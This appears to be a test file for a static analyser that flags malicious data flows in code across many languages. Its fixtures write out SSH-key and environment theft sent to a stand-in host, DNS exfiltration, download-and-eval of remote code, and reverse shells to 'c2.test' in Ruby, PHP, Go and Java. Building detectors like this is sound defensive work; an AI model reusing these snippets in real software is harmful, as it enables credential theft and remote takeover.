import fc from "fast-check";
import { describe, expect, test } from "vitest";
import type { Fact } from "../../fact/fact.ts";
import { makeSource } from "../../testing/make-source.ts";
import { analyseProgram } from "./analyse-program.ts";

const TAKE = "https://take.test/in";
const LOAD = "https://load.test/x";

function trace(file: string, ...lines: string[]): readonly string[] {
  const source = makeSource(lines.join("\n"), { language: "code", medium: "script", file });
  return analyseProgram(source).facts.flatMap(show);
}

function show(fact: Fact): readonly string[] {
  if (fact.kind === "act")
    return fact.act.type === "remote-shell" ? [`shell at ${fact.act.host.replace(/:\d+$/, "")}`] : [];
  if (fact.kind !== "flow") return [];
  const { sink } = fact;
  const end = sink.type === "network" ? (sink.host ?? "*") : sink.type === "execute" ? sink.how : sink.type;
  return fact.sources.flatMap((source) => {
    if (source.type === "file") return [];
    if (source.type === "secret") return `${source.secret} to ${end}`;
    return source.type === "network" ? `${source.host} to ${end}` : `${source.type} to ${end}`;
  });
}

describe("what is fetched in one statement and evaluated in another is a flow", () => {
  test.each<[string, string[]]>([
    ["a.rb", [`page = Net::HTTP.get(URI("${LOAD}"))`, `puts "ready"`, "instance_eval(page)"]],
    ["a.pl", ["use LWP::Simple;", `my $page = get("${LOAD}");`, "eval $page;"]],
    ["a.php", ["<?php", `$page = file_get_contents("${LOAD}");`, "eval($page);"]],
    ["a.php", [`$where = "https://" . "load.test/x";`, "$page = file_get_contents($where);", "eval($page);"]],
    ["a.lua", [`local pipe = io.popen("curl -s ${LOAD}")`, `load(pipe:read("*a"))()`]],
    ["a.R", [`page <- readLines("${LOAD}")`, "eval(parse(text = page))"]],
    ["a.jl", [`page = Downloads.download("${LOAD}")`, "include(page)"]],
    ["a.exs", [`page = Req.get!("${LOAD}").body`, "Code.eval_string(page)"]],
    [
      "a.rb",
      [
        "def fetch_page(where)",
        "  Net::HTTP.get(URI(where))",
        "end",
        `page = fetch_page("${LOAD}")`,
        "eval(page)",
      ],
    ],
    ["a.php", ["function run_it($code) {", "  eval($code);", "}", `run_it(file_get_contents("${LOAD}"));`]],
  ])("%s: %j", (file, lines) => {
    expect(trace(file, ...lines)).toContain("load.test to eval");
  });
});

describe("a secret in a name that is looked up is a flow, whole or in parts", () => {
  test.each<[string, string[]]>([
    ["a.rb", [`key = File.read("/root/.ssh/id_rsa")`, `Resolv.getaddress(key[0, 60] + ".take.test")`]],
    ["a.php", [`$key = file_get_contents("/root/.ssh/id_rsa");`, `gethostbyname($key . ".take.test");`]],
    ["a.go", [`key, _ := os.ReadFile("/root/.ssh/id_rsa")`, `net.LookupHost(key[:60] + ".take.test")`]],
  ])("%s: %j", (file, lines) => {
    expect(trace(file, ...lines)).toContain("ssh to *.take.test");
  });
});

test("a file that is written with what was fetched and then started is a flow", () => {
  const lines = [`File.write("/tmp/tool", URI.open("${LOAD}").read)`, `system("/tmp/tool")`];
  expect(trace("a.rb", ...lines)).toContain("load.test to file");
  expect(
    trace(
      "a.go",
      `response, _ := http.Get("${LOAD}")`,
      `target, _ := os.Create("/tmp/tool")`,
      "io.Copy(target, response.Body)",
      `exec.Command("/tmp/tool").Run()`,
    ),
  ).toContain("load.test to file");
});

describe("a secret that reaches a request is a flow", () => {
  test.each<[string, string, string[]]>([
    [
      "a.rb",
      "ssh",
      [`key = File.read(File.expand_path("~/.ssh/id_rsa"))`, `RestClient.post("${TAKE}", key)`],
    ],
    ["a.rb", "whole-environment", [`Net::HTTP.post(URI("${TAKE}"), ENV.to_h.to_json)`]],
    ["a.pl", "whole-environment", [`HTTP::Tiny->new->post_form("${TAKE}", { %ENV });`]],
    [
      "a.php",
      "whole-environment",
      [
        `$handle = curl_init("${TAKE}");`,
        "curl_setopt($handle, CURLOPT_POSTFIELDS, json_encode(getenv()));",
        "curl_exec($handle);",
      ],
    ],
    [
      "a.go",
      "ssh",
      [
        "func main() {",
        `\tpath := filepath.Join(os.Getenv("HOME"), ".ssh", "id_rsa")`,
        "\tdata, _ := os.ReadFile(path)",
        `\thttp.Post("${TAKE}", "text/plain", bytes.NewReader(data))`,
        "}",
      ],
    ],
    [
      "a.rs",
      "whole-environment",
      [
        "let all: Vec<_> = std::env::vars().collect();",
        `reqwest::blocking::Client::new()`,
        `    .post("${TAKE}")`,
        "    .json(&all)",
        "    .send();",
      ],
    ],
    [
      "a.R",
      "own-key",
      [`key <- Sys.getenv("OTHER_API_KEY")`, `httr::POST("${TAKE}", body = list(key = key))`],
    ],
    [
      "A.java",
      "ssh",
      [
        `String k = Files.readString(Path.of("/root/.ssh/id_rsa"));`,
        `HttpURLConnection c = (HttpURLConnection) new URL("${TAKE}").openConnection();`,
        "c.getOutputStream().write(k.getBytes());",
      ],
    ],
    [
      "A.java",
      "ssh",
      [
        `var lines = new BufferedReader(new FileReader("/root/.ssh/id_rsa")), none = null;`,
        `new URL("${TAKE}?k=" + lines.readLine()).openStream();`,
      ],
    ],
    [
      "a.kt",
      "ssh",
      [
        `val c = URL("${TAKE}").openConnection() as HttpURLConnection`,
        `c.outputStream.write(File("/root/.ssh/id_rsa").readBytes())`,
      ],
    ],
    [
      "a.kt",
      "ssh",
      [
        `val c = URL("${TAKE}").openConnection()`,
        `c.outputStream.use { it.write(File("/root/.ssh/id_rsa").readBytes()) }`,
      ],
    ],
    [
      "a.kt",
      "ssh",
      [
        `val c = URL("${TAKE}").openConnection()`,
        "c.outputStream.use {",
        `  it.write(File("/root/.ssh/id_rsa").readBytes())`,
        "}",
      ],
    ],
    [
      "a.go",
      "ssh",
      [
        `b, _ := os.ReadFile("/root/.ssh/id_rsa")`,
        `c, _ := net.Dial("tcp", "take.test:9")`,
        `fmt.Fprintf(c, "%s", b)`,
      ],
    ],
    [
      "a.go",
      "ssh",
      [
        `b, _ := os.ReadFile("/root/.ssh/id_rsa")`,
        `r, _ := http.NewRequest("GET", "${TAKE}", nil)`,
        `r.Header.Set("X", string(b))`,
        "client.Do(r)",
      ],
    ],
    [
      "a.lua",
      "ssh",
      [
        `local key = io.open("/root/.ssh/id_rsa"):read("*a")`,
        `os.execute(string.format("curl -d '%s' ${TAKE}", key))`,
      ],
    ],
    [
      "a.el",
      "ssh",
      [
        `(let ((key (with-temp-buffer (insert-file-contents "~/.ssh/id_rsa") (buffer-string)))) ; the "key`,
        `  (url-retrieve (concat "${TAKE}?k=" key) #'ignore))`,
      ],
    ],
    [
      "a.el",
      "ssh",
      [`(setq key (shell-command-to-string "cat ~/.ssh/id_rsa"))`, `(url-retrieve (concat "${TAKE}" key))`],
    ],
    ["a.clj", "ssh", [`(let [key (slurp "/root/.ssh/id_rsa")]`, `  (client/post "${TAKE}" {:body key}))`]],
    [
      "a.scm",
      "ssh",
      [`(define key (call-with-input-file "/root/.ssh/id_rsa" f))`, `(http-post "${TAKE}" key)`],
    ],
    ["a.exs", "ssh", [`"/root/.ssh/id_rsa" |> File.read!() |> then(&HTTPoison.post("${TAKE}", &1))`]],
  ])("%s: %s of %j", (file, secret, lines) => {
    expect(trace(file, ...lines)).toContain(`${secret} to take.test`);
  });
});

test("what is unpacked and evaluated is a flow", () => {
  expect(trace("a.rb", `text = "6964".then { |h| [h].pack("H*") }`, "eval(text)")).toContain(
    "decoded to eval",
  );
  expect(trace("a.php", "$text = gzinflate(base64_decode($blob));", "eval($text);")).toContain(
    "decoded to eval",
  );
});

describe("a shell that is bound to a connection is seen", () => {
  test.each<[string, string[]]>([
    ["a.rb", [`s = TCPSocket.new("c2.test", 4444)`, `spawn("/bin/sh", in: s, out: s, err: s)`]],
    ["a.php", [`$s = fsockopen("c2.test", 4444);`, `proc_open("/bin/sh", [0 => $s, 1 => $s], $pipes);`]],
    ["a.php", [`$s = fsockopen("c2.test", 4444);`, `exec("/bin/sh -i <&3 >&3 2>&3");`]],
    [
      "a.go",
      [
        `link, _ := net.Dial("tcp", "c2.test:4444")`,
        `shell := exec.Command("/bin/sh")`,
        "shell.Stdin = link",
        "shell.Stdout = link",
      ],
    ],
    [
      "a.go",
      [
        `link, _ := net.Dial("tcp", "c2.test:4444")`,
        `for { line, _ := bufio.NewReader(link).ReadString('\\n'); exec.Command("sh", "-c", line).Run() }`,
      ],
    ],
    ["a.rb", [`s = TCPSocket.open("c2.test", 4444)`, `exec sprintf("/bin/sh -i <&%d >&%d", s, s)`]],
    [
      "A.java",
      [
        `Process p = new ProcessBuilder("/bin/sh").redirectErrorStream(true).start();`,
        `Socket s = new Socket("c2.test", 4444);`,
        "OutputStream out = p.getOutputStream(), back = s.getOutputStream();",
        "InputStream in = s.getInputStream();",
        "while (!s.isClosed()) out.write(in.read());",
      ],
    ],
  ])("%s: %j", (file, lines) => {
    expect(trace(file, ...lines)).toContain("shell at c2.test");
  });
});

describe("ordinary programs give no flow", () => {
  test.each<[string, string[]]>([
    ["a.rb", [`page = Net::HTTP.get(URI("${LOAD}"))`, "puts JSON.parse(page)", `system("make")`]],
    ["a.pl", [`my $page = get("${LOAD}");`, "eval { parse($page) };", "print $page;"]],
    ["a.pl", [`my $size = unpack("N", $head);`, "eval $code;"]],
    ["a.pl", ["=pod", "", `  my $page = get("${LOAD}"); eval $page;`, "", "=cut", "", "print 1;"]],
    ["a.pl", [`local %ENV = (%ENV, LANG => "C");`, `get("${LOAD}?l=$ENV{LANG}");`]],
    ["a.go", [`data, _ := os.ReadFile("config.yaml")`, `http.Post("${TAKE}", "text/plain", data)`]],
    [
      "a.go",
      [
        "func one() {",
        `  text := fetch("${LOAD}")`,
        "  log.Print(text)",
        "}",
        "func two(text string) {",
        `  exec.Command("sh", "-c", text).Run()`,
        "}",
      ],
    ],
    ["a.pl", [`push @rings, "$ENV{HOME}/.gnupg/trustedkeys.gpg";`]],
    ["a.lua", [`local size = #list -- eval(get("${LOAD}"))`, "return load"]],
    ["a.clj", [`(def page (slurp "${LOAD}"))`, "(println page)"]],
    ["a.el", [`; (eval (url-retrieve "${LOAD}"))`, `#| (eval (url-retrieve "${LOAD}")) |#`]],
    ["a.rb", [`key = ENV["HOME"]`, `Net::HTTP.post(URI("${TAKE}"), key)`]],
  ])("%s: %j", (file, lines) => {
    expect(trace(file, ...lines)).toEqual([]);
  });
});

test("no text makes it throw", () => {
  for (const piece of [
    "a=",
    "a,",
    "(",
    "{",
    "`",
    "a.b=c;",
    "# ",
    "-- ",
    "def a(b,",
    `"#{a}" + `,
    "=pod\n",
    "\n",
  ])
    expect(trace("a.rb", `eval x\n${piece.repeat(20_000)}`)).toEqual([]);
  for (const piece of ["(", "(let ((", "#|", `"\\`, "(a ", ")", "[a"])
    expect(trace("a.el", `(eval x)\n${piece.repeat(200_000)}`)).toEqual([]);
  fc.assert(
    fc.property(fc.string({ unit: "binary" }), (text) => {
      expect(Array.isArray(trace("a.php", `eval(x)\n${text}`))).toBe(true);
    }),
  );
});

test("a build that takes its rules from an address runs what is sent; rules of the project are its own", () => {
  expect(trace("build.gradle.kts", `apply(from = "${LOAD}")`)).toEqual(["load.test to eval"]);
  expect(trace("a/build.gradle", `apply from: "${LOAD}"`)).toEqual(["load.test to eval"]);
  expect(trace("build.gradle", 'apply from: "gradle/rules.gradle"', `home = "${LOAD}"`)).toEqual([]);
});
